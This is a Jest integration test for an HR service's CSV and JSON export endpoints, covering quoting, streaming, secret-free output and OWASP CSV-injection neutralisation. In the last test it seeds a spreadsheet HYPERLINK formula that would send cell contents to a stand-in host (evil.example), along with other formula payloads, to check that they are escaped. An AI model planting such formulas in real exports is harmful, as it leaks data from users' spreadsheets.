import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { calendarToday } from '../../src/application/employee-profiles.service.js';
import { EXPORT_PAGE_SIZE } from '../../src/application/hr-export.service.js';
import { startTestService, type TestService } from '../support/service.js';

/** A small RFC 4180 reader, so the test checks the quoting rather than trusting the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
const records = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
};

describe('export (rule 8.3)', () => {
  let service: TestService;
  let tokenHash: string;
  const SEEDED = EXPORT_PAGE_SIZE * 2 + 37;

  beforeAll(async () => {
    service = await startTestService();
    for (const name of ['Manager', 'Employee'])
      expect((await service.api('/api/admin/roles', { method: 'POST', json: { name } })).status).toBe(201);
    const user = (await (
      await service.api('/api/admin/users', {
        method: 'POST',
        json: {
          email: 'megan@contoso.com',
          firstName: 'Megan, "Meg"',
          lastName: 'Bowen',
          roles: ['Manager', 'Employee'],
        },
      })
    ).json()) as { id: string };
    await service.api(`/api/admin/users/${user.id}/tokens`, { method: 'POST', json: { name: 'laptop' } });
    const profile = (await (
      await service.api('/api/admin/employee-profiles', {
        method: 'POST',
        json: {
          email: 'megan.p@contoso.com',
          firstName: 'Megan',
          lastName: 'Bowen',
          hireDate: '2021-04-01',
          customFields: { note: 'line 1\nline 2, "quoted"', level: 3 },
        },
      })
    ).json()) as { id: string };
    await service.api(`/api/admin/employee-profiles/${profile.id}/connect`, {
      method: 'POST',
      json: { email: 'megan@contoso.com' },
    });
    // Enough rows for several pages; seeded in one statement, as a bulk import would.
    await service.orm.em
      .fork()
      .execute(
        `insert into hr_user (email, first_name, last_name, origin, custom_fields) select 'bulk' || g || '@contoso.com', 'Bulk', 'User ' || g, 'entra', jsonb_build_object('n', g) from generate_series(1, ?) g`,
        [SEEDED],
      );
    const [token] = await service.orm.em
      .fork()
      .execute<{ token_hash: string }[]>('select token_hash from api_token limit 1');
    tokenHash = token!.token_hash;
  });
  afterAll(async () => service.close());

  it('streams every HR user as CSV with a header row, proper quoting, roles and custom fields, and no secrets', async () => {
    const res = await service.api('/api/admin/export/hr-users?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="hr-users-${calendarToday()}.csv"`);
    expect(res.headers.get('content-length')).toBeNull(); // streamed (chunked), not buffered
    const text = await res.text();
    const rows = records(text);
    expect(rows).toHaveLength(SEEDED + 2); // the bootstrap admin, Megan, the bulk users
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    const megan = rows.find((r) => r.email === 'megan@contoso.com')!;
    expect(megan).toMatchObject({
      firstName: 'Megan, "Meg"',
      lastName: 'Bowen',
      active: 'true',
      origin: 'hr',
      roles: '["Employee","Manager"]',
      customFields: '{}',
    });
    expect(megan.employeeProfileId).toMatch(/^[0-9a-f-]{36}$/);
    const admin = rows.find((r) => JSON.parse(r.roles!).includes('Administrator'));
    expect(admin).toBeDefined();
    expect(rows.find((r) => r.email === 'bulk77@contoso.com')).toMatchObject({
      customFields: '{"n":77}',
      hireDate: '',
      entraId: '',
    });
    expect(Object.keys(megan).filter((name) => /token|secret|hash/i.test(name))).toEqual([]);
    expect(text).not.toContain(tokenHash);
  });

  it('exports the same rows as a JSON array', async () => {
    const res = await service.api('/api/admin/export/hr-users?format=json');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="hr-users-${calendarToday()}.json"`);
    const rows = (await res.json()) as Array<{
      email: string;
      roles: string[];
      customFields: Record<string, unknown>;
      active: boolean;
      createdAt: string;
    }>;
    expect(rows).toHaveLength(SEEDED + 2);
    expect(rows.find((r) => r.email === 'bulk5@contoso.com')).toMatchObject({
      roles: [],
      customFields: { n: 5 },
      active: true,
      createdAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
    });
  });

  it('exports employee profiles with their HR user, roles and custom fields', async () => {
    const csv = records(await (await service.api('/api/admin/export/employee-profiles')).text());
    expect(csv).toEqual([
      expect.objectContaining({
        email: 'megan.p@contoso.com',
        hireDate: '2021-04-01',
        employmentStatus: 'active',
        hrUserEmail: 'megan@contoso.com',
        hrUserActive: 'true',
        roles: '["Employee","Manager"]',
      }),
    ]);
    expect(JSON.parse(csv[0]!.customFields!)).toEqual({ note: 'line 1\nline 2, "quoted"', level: 3 });
    const json = (await (await service.api('/api/admin/export/employee-profiles?format=json')).json()) as Array<
      Record<string, unknown>
    >;
    expect(json).toEqual([
      expect.objectContaining({
        email: 'megan.p@contoso.com',
        customFields: { note: 'line 1\nline 2, "quoted"', level: 3 },
        resignationDate: null,
      }),
    ]);
  });

  it('writes the header even when there is nothing to export, and refuses unknown formats', async () => {
    await service.orm.em.fork().execute('delete from employee_profile');
    expect((await (await service.api('/api/admin/export/employee-profiles?format=csv')).text()).split('\n')[0]).toMatch(
      /^id,email,firstName,/,
    );
    expect(await (await service.api('/api/admin/export/employee-profiles?format=json')).json()).toEqual([]);
    expect((await service.api('/api/admin/export/hr-users?format=xlsx')).status).toBe(400);
  });

  it('neutralises cells a spreadsheet would run as formulas in CSV (OWASP CSV injection), and leaves JSON as it is', async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    const formulas = { firstName: hyperlink, lastName: '+SUM(1,2)', email: 'formula@contoso.com' };
    expect((await service.api('/api/admin/users', { method: 'POST', json: formulas })).status).toBe(201);
    const profile = {
      email: 'formula.p@contoso.com',
      firstName: '@cmd',
      lastName: '-2+3',
      jobTitle: '=1+1',
      city: 'Ordinary - not a formula',
      customFields: { note: '=1+1' },
    };
    expect((await service.api('/api/admin/employee-profiles', { method: 'POST', json: profile })).status).toBe(201);

    const user = records(await (await service.api('/api/admin/export/hr-users')).text()).find(
      (r) => r.email === 'formula@contoso.com',
    )!;
    expect(user).toMatchObject({ firstName: `'${hyperlink}`, lastName: "'+SUM(1,2)" });
    const exported = records(await (await service.api('/api/admin/export/employee-profiles')).text()).find(
      (r) => r.email === 'formula.p@contoso.com',
    )!;
    // Custom fields are one JSON cell starting with "{", which no spreadsheet runs.
    expect(exported).toMatchObject({
      firstName: "'@cmd",
      lastName: "'-2+3",
      jobTitle: "'=1+1",
      city: 'Ordinary - not a formula',
      customFields: '{"note":"=1+1"}',
    });

    const json = (await (await service.api('/api/admin/export/hr-users?format=json')).json()) as Array<
      Record<string, unknown>
    >;
    expect(json.find((r) => r.email === 'formula@contoso.com')).toMatchObject({
      firstName: hyperlink,
      lastName: '+SUM(1,2)',
    });
    const profilesJson = (await (await service.api('/api/admin/export/employee-profiles?format=json')).json()) as Array<
      Record<string, unknown>
    >;
    expect(profilesJson.find((r) => r.email === 'formula.p@contoso.com')).toMatchObject({
      firstName: '@cmd',
      lastName: '-2+3',
      jobTitle: '=1+1',
    });
  });
});
